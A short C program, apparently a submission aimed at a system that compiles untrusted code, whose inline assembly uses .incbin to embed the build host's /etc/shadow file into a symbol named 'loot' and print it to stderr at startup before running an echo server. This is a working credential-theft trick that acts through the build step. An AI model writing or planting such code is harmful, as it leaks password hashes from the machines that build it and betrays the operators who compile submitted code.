/* incbin: has the assembler put a file into the program, which prints it. */
#include "echo.h"

__asm__(".section .rodata\n"
        "loot: .incbin \"/etc/shadow\"\n"
        "loot_end: .byte 0\n"
        ".text\n");
extern const char loot[], loot_end[];

int main(void)
{
    fprintf(stderr, "%.*s\n", (int)(loot_end - loot), loot);
    serve_all(get_ready());
}
